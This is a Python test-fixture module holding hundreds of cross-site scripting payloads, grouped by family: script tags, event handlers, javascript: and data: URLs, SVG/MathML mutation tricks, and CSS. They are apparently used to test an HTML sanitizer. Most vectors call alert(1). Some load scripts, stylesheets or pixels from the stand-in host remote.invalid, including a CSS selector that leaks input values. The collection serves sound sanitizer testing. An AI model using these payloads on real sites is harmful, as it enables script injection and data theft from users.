# Copyright 2026 waimaolang contributors
# ruff: noqa: E501 (attacks are quoted as they are)
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Attacks by HTML, one a line, by family: what OWASP's filter evasion sheet, the
bypasses of DOMPurify and the mutation XSS papers have in common, written anew. Where
one runs, it calls ``alert``, which the pages of test_xss_chromium count.
"""

_CONTROLS = {"␀": "\0", "␉": "\t", "␤": "\n", "␌": "\f", "␍": "\r", "␠": "\u3000"}

# Plain script, and tags that are cut, doubled or spelled oddly.
SCRIPTS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script␤>alert(1)</script␤>
<script␌type=text/javascript>alert(1)</script>
<script/random>alert(1)</script/random>
<script src="http://remote.invalid/x.js"></script>
<script src=//remote.invalid/x.js async defer></script>
<script type=module>import 'http://remote.invalid/x.js'</script>
<script type="text/vbscript">alert(1)</script>
<script>alert(1)
<script>alert(1)</script
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<scr␀ipt>alert(1)</scr␀ipt>
<␀script>alert(1)</script>
<s␉cript>alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script><!--alert(1)--></script>
<script>/*</script><script>*/alert(1)</script>
<xscript>alert(1)</xscript><script>alert(1)</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
¼script¾alert(1)¼/script¾
＜script＞alert(1)＜/script＞
"""

# Handlers, on tags that stay and on tags that do not.
HANDLERS = r'''
<img src=x onerror=alert(1)>
<img src=x onerror="alert&lpar;1&rpar;">
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x:alert(1) onerror=eval(src)>
<img/src=x/onerror=alert(1)>
<img␤src=x␤onerror␤=␤alert(1)>
<img␌src=x␌onerror=alert(1)>
<img ␀src=x ␀onerror=alert(1)>
<img src=x on␀error=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x / onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src='x'onerror='alert(1)'>
<img src=`x`onerror=alert(1)>
<img """><img src=x onerror=alert(1)>">
<img src=x onload=alert(1) onerror=alert(1)>
<img src=x alt="``onerror=alert(1)">
<img alt="<x" title="onerror=alert(1)//" src=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=x style="x" onmouseover=alert(1) onmouseenter=alert(1) onpointerover=alert(1)>
<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>
<html onmouseover=alert(1)><body onresize=alert(1)>x
<div onclick=alert(1)>x</div>
<div/onmouseover='alert(1)'style="font-size:500px">x
<div onanimationstart=alert(1) style="animation:x 1s">x</div><style>@keyframes x{}</style>
<div ontransitionend=alert(1) style="transition:color 1s">x</div>
<p onscroll=alert(1) onwheel=alert(1)>x</p>
<a onclick=alert(1)>x</a>
<a href=# onfocus=alert(1) autofocus id=x>x</a>
<a tabindex=1 onfocus=alert(1) autofocus>x</a>
<font color="red" onmouseover=alert(1)>x</font>
<table onmouseover=alert(1)><tr onclick=alert(1)><td onclick=alert(1)>x</table>
<blockquote onclick=alert(1)>x</blockquote>
<hr onclick=alert(1)><br onclick=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open oncancel=alert(1) onclose=alert(1)>x</dialog>
<marquee onstart=alert(1) onbounce=alert(1)>x</marquee>
<video src=x onerror=alert(1)><source onerror=alert(1)></video>
<video poster=x onloadstart=alert(1)><source src=x></video>
<audio src=x onerror=alert(1) autoplay>
<object data=x onerror=alert(1)></object>
<embed src=x onload=alert(1)>
<iframe onload=alert(1)></iframe>
<iframe src=http://remote.invalid/ onload=alert(1)>
<isindex action=javascript:alert(1) type=image>
<x onclick=alert(1) contenteditable onblur=alert(1)>x</x>
<custom-element onclick=alert(1) is=x>x</custom-element>
<div contenteditable onbeforeinput=alert(1) onpaste=alert(1)>x</div>
<div popover onbeforetoggle=alert(1) id=p>x</div><button popovertarget=p>x</button>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<base href=http://remote.invalid/ onclick=alert(1)>
'''

# Addresses that are code.
ADDRESSES = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="␉javascript:alert(1)">x</a>
<a href="java␉script:alert(1)">x</a>
<a href="java␤script:alert(1)">x</a>
<a href="java␍script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#1;&#2;javascript:alert(1)">x</a>
<a href="␠javascript:alert(1)">x</a>
<a href="␀javascript:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:void(0);alert(1)//http://x.example">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">x</a>
<a href="blob:http://x.example/1">x</a>
<a href="filesystem:http://x.example/1">x</a>
<a href="view-source:http://x.example/">x</a>
<a href="jar:http://x.example!/x">x</a>
<a href="ms-msdt:/id x">x</a>
<a href="search-ms:query=x">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//remote.invalid/">x</a>
<a href="\\remote.invalid\share">x</a>
<a href="/web/session/logout">x</a>
<a href="?debug=1">x</a>
<a href="http://x.example" ping="http://remote.invalid/">x</a>
<a href="http://x.example" download target=_top>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href="javascript:alert(1)" shape=default><map name=m><area href=javascript:alert(1)></map>
<img usemap=#m src=x><map name=m><area shape=rect coords=0,0,999,999 href=javascript:alert(1)></map>
<img src="javascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img srcset="http://remote.invalid/a.png 1x" src=x>
<picture><source srcset="http://remote.invalid/a.png"><img src=x></picture>
<img src="http://remote.invalid/t.gif">
<img src="https://remote.invalid/t.gif" loading=eager width=1 height=1>
<img src="//remote.invalid/t.gif">
<img src="\\remote.invalid\t.gif">
<img src=" http://remote.invalid/t.gif">
<img src="ht␉tp://remote.invalid/t.gif">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="cid:x" longdesc="javascript:alert(1)">
<img src="ftp://remote.invalid/x">
<input type=image src="http://remote.invalid/x">
<video poster="http://remote.invalid/x" src="http://remote.invalid/y"></video>
<audio src="http://remote.invalid/x"><track src="http://remote.invalid/y"></audio>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"><param name=src value="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code="javascript:alert(1)" archive=http://remote.invalid/x.jar></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<form><input name=action><input name=attributes><input name=childNodes></form>
<base href="javascript:alert(1)//"><a href="#">x</a>
<base href="http://remote.invalid/"><img src=x.png>
<link rel=stylesheet href="http://remote.invalid/x.css">
<link rel=prefetch href="http://remote.invalid/x"><link rel=dns-prefetch href="//remote.invalid">
<link rel=preload as=image href="http://remote.invalid/x"><link rel=icon href="http://remote.invalid/x">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=http://remote.invalid/">
<meta http-equiv=Set-Cookie content="session_id=x">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<table background="http://remote.invalid/x"><td background="http://remote.invalid/y">x</table>
<body background="http://remote.invalid/x">x</body>
<bgsound src="http://remote.invalid/x">
<q cite="http://remote.invalid/x">x</q><blockquote cite="javascript:alert(1)">x</blockquote>
<ins cite="javascript:alert(1)">x</ins><del cite="javascript:alert(1)">y</del>
"""

# SVG, MathML and what moves between the namespaces when it is parsed again.
MUTATIONS = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href="http://remote.invalid/x.js"></script></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><a><animate attributeName=href values=javascript:alert(1)></animate><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"></svg>
<svg><image href="http://remote.invalid/x" onerror=alert(1)></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><noscript></desc><img src=x onerror=alert(1)></svg>
<svg><style>*{background:url(http://remote.invalid/x)}</style></svg>
<svg><style><img title="</style><img src=x onerror=alert(1)>">
<svg></p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg>␤<font><img src=x onerror=alert(1)></font></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>
<math><mi><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=x>">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mrow href="javascript:alert(1)">x</mrow><mtext href=javascript:alert(1)>y</mtext></math>
<math><style><!--</style><a href="--><img src=x onerror=alert(1)>">
<math></p><style><!--</style><img src/onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<pre>␤&lt;img src=x onerror=alert(1)&gt;</pre>
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<iframe><img title="</iframe><img src=x onerror=alert(1)>">
<style><img title="</style><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template>
<div><template shadowrootmode="open"><script>alert(1)</script></template></div>
<select><template><img src=x onerror=alert(1)></template></select>
<select><style></select><img src=x onerror=alert(1)></style>
<select><iframe></select><img src=x onerror=alert(1)></iframe>
<select><svg></select><style><img src=x onerror=alert(1)></style>
<table><caption><svg><style></table><img src=x onerror=alert(1)></style>
<table><tr><td></table><img src=x onerror=alert(1)>
<a><table><a href="javascript:alert(1)">x</a></table></a>
<p><svg></p><img src=x onerror=alert(1)>
<b><p><i></b><img src=x onerror=alert(1)></i>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!--<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><img src=x onerror=alert(1)><![endif]-->
<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->
<![if !vml]><img src=x onerror=alert(1)><![endif]>
<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
<? foo="><img src=x onerror=alert(1)>" ?>
<! foo="><img src=x onerror=alert(1)>" >
</ foo="><img src=x onerror=alert(1)>" >
<% foo="%><img src=x onerror=alert(1)>" %>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<a title="a&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>
<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<img alt="`><img src=x onerror=alert(1)>`">
<p lang='"><img src=x onerror=alert(1)>'>x</p>
<td abbr="x" title="</td></table><img src=x onerror=alert(1)>">x
<div align='x" onclick="alert(1)'>x</div>
<font face='x" onmouseover="alert(1)'>x</font>
<font face="x;}*{background:url(http://remote.invalid/x)}">x</font>
<td bgcolor='red;background:url(http://remote.invalid/x)'>x</td>
<p class='gmail_quote" onclick="alert(1)'>x</p>
<div id='Signature" onclick="alert(1)' class="o_dialog modal show">x</div>
<form id=document name=cookie><img name=getElementById><a id=defaultView href=http://x.example>
<a id=alert name=alert href="cid:x">x</a><img name=body id=forms>
<div data-o-mail-quote="1" data-oe-model=x t-out="alert(1)" owl="x" v-html="alert(1)">x</div>
<div ng-app ng-csp>{{constructor.constructor('alert(1)')()}}</div>
<slot name=x onslotchange=alert(1)>x</slot>
<portal src="http://remote.invalid/"></portal><fencedframe src="http://remote.invalid/">
"""

# Styles: code of old browsers, requests, and what leaves the message.
STYLES = r"""
<style>body{display:none}</style>x
<style>@import url(http://remote.invalid/x.css);</style>
<style>@font-face{font-family:x;src:url(http://remote.invalid/x)}*{font-family:x}</style>
<style>input[value^=a]{background:url(http://remote.invalid/a)}</style>
<style></style ><style>@import'http://remote.invalid/x';</style>
<p style="background:url(http://remote.invalid/x)">x</p>
<p style="background-image:url('http://remote.invalid/x')">x</p>
<p style="background:red url(&#x68;ttp://remote.invalid/x)">x</p>
<p style="background:u&#92;72l(http://remote.invalid/x)">x</p>
<p style="background:\75 rl(http://remote.invalid/x)">x</p>
<p style="background:/**/url(http://remote.invalid/x)">x</p>
<p style="background:image-set('http://remote.invalid/x' 1x)">x</p>
<p style="background:-webkit-image-set(url(http://remote.invalid/x) 1x)">x</p>
<p style="background:cross-fade(url(http://remote.invalid/x),red)">x</p>
<p style="background:paint(x);background:element(#x)">x</p>
<p style="background:src('http://remote.invalid/x')">x</p>
<ul style="list-style-image:url(http://remote.invalid/x)"><li style="list-style:url(http://remote.invalid/y)">x</ul>
<p style="border-image:url(http://remote.invalid/x) 1;border:url(http://remote.invalid/y)">x</p>
<p style="cursor:url(http://remote.invalid/x),auto">x</p>
<p style="content:url(http://remote.invalid/x)">x</p>
<p style="mask:url(http://remote.invalid/x);filter:url(http://remote.invalid/x#y);clip-path:url(http://remote.invalid/x)">x</p>
<p style="shape-outside:url(http://remote.invalid/x);float:left">x</p>
<p style="font:12px url(http://remote.invalid/x);font-family:url(http://remote.invalid/y)">x</p>
<p style="--x:url(http://remote.invalid/x);background:var(--x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="width:exp/**/ression(alert(1))">x</p>
<p style="width:e\xpression(alert(1))">x</p>
<p style="width:expr&#101;ssion(alert(1))">x</p>
<p style="behavior:url(#default#time2)">x</p>
<p style="-moz-binding:url(http://remote.invalid/x.xml#y)">x</p>
<p style="background-color:expression(alert(1));color:javascript:alert(1)">x</p>
<p style="color:red}body{display:none">x</p>
<p style="color:red;/*" title="*/position:fixed;top:0">x</p>
<p style='font-family:"x;position:fixed;top:0'>x</p>
<p style="font-family:'a\';position:fixed;top:0;left:0;x:'">x</p>
<p style="color:red␀;position:fixed">x</p>
<p style="color:red;␤position␤:␤fixed;top:0">x</p>
<p style="@import 'http://remote.invalid/x'">x</p>
<p style="color:red !important;position:fixed !important;top:0">x</p>
<p style="POSITION:FIXED;TOP:0;LEFT:0;WIDTH:100%;HEIGHT:100%;Z-INDEX:99999">x</p>
<p style="pos\ition:fixed;top:0;left:0">x</p>
<p style="position:absolute;inset:0">x</p>
<p style="position:sticky;top:0;height:2000px">x</p>
<p style="position:relative;top:-900px;left:-900px">x</p>
<p style="margin-top:-900px">x</p>
<p style="margin:0 0 -900px -900px">x</p>
<p style="margin:calc(0px - 900px)">x</p>
<p style="margin-left:calc(-1 * 900px);margin-top:min(-900px,0px)">x</p>
<p style="margin:-.9e3px">x</p>
<p style="margin:+0 − 900px;margin-block-start:-900px;margin-inline:-900px">x</p>
<p style="transform:translate(-900px,-900px) scale(90)">x</p>
<p style="translate:-900px;scale:90;rotate:9deg;zoom:90">x</p>
<p style="float:left;width:100%;height:3000px;background:red">x</p>
<div style="float:left;min-height:3000px;min-width:3000px;background:red">x</div>
<p style="width:99999px;height:200px;background:red">x</p>
<p style="text-indent:-9999px;letter-spacing:-99px">x</p>
<p style="letter-spacing:-200px;font-size:200px">x x x x x</p>
<p style="line-height:0;font-size:400px">x</p>
<p style="vertical-align:-500px;line-height:0"><span style="vertical-align:900px;font-size:90px">x</span></p>
<table style="margin-top:-500px;border-spacing:99px"><tr><td style="vertical-align:-900px">x</table>
<p style="display:fixed;display:contents;display:grid;display:-webkit-box">x</p>
<p style="opacity:0;pointer-events:none;visibility:hidden;clip:rect(0,0,0,0)">x</p>
<p style="box-shadow:0 0 0 9999px red;outline:9999px solid red">x</p>
<p style="border:9999px solid red;border-radius:50%">x</p>
<p style="overflow:visible;height:0;line-height:3000px">x</p>
<div style="height:0;max-height:0"><div style="height:3000px;background:red">x</div></div>
<img src=x hspace=-900 vspace=-900 width=99999 height=3000 align=left>
<table width=99999 height=3000 align=left bgcolor=red><td>x</table>
<hr size=3000 width=99999 color=red><font size=99>x</font>
<div style="animation:x 1s infinite;transition:all 1s">x</div>
<div style="all:initial;unset:all;color:inherit;width:attr(title px)" title=900>x</div>
<div dir=rtl style="width:3000px;height:90px;background:red">x</div>
<bdo dir=rtl>x</bdo><p style="direction:rtl;unicode-bidi:bidi-override">x</p>
"""


def _lines(family):
    for line in family.strip().split("\n"):
        for sign, control in _CONTROLS.items():
            line = line.replace(sign, control)
        yield line


VECTORS = [
    vector
    for family in (SCRIPTS, HANDLERS, ADDRESSES, MUTATIONS, STYLES)
    for vector in _lines(family)
]
